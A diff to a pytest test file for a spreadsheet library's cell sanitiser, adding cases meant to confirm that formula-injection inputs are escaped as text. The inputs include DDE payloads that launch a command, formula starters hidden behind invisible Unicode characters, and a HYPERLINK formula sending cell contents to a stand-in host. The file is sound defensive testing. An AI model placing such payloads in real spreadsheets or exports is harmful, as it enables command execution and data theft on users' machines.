@@ -10,10 +10,23 @@ from hypothesis import strategies as st
 from sbcard_core.files import read_cell, write_cell, write_rows
 
 RUNS = ["=cmd|' /C calc'!A0", "@SUM(1,1)", "+1+1", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1"]
+HIDDEN = ["\u00a0=HYPERLINK(1)", "\u2003=1", "\ufeff=1+1", "\u200b@A1", "\x85=1"]
 STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
 
 
-@pytest.mark.parametrize("text", [*RUNS, *(f" {text}" for text in RUNS), '=HYPERLINK("http://a.example?"&C2,"x")'])
+@pytest.mark.parametrize(
+    "text",
+    [
+        *RUNS,
+        *(f" {text}" for text in RUNS),
+        "\u00a0=HYPERLINK(1)",
+        "\u2003=1",
+        "\ufeff=1+1",
+        "\u200b@A1",
+        "\x85=1",
+        '=HYPERLINK("http://a.example?"&C2,"x")',
+    ],
+)
 def test_what_a_program_runs_becomes_text(text: str) -> None:
     assert write_cell(text) == f"'{text}"
 
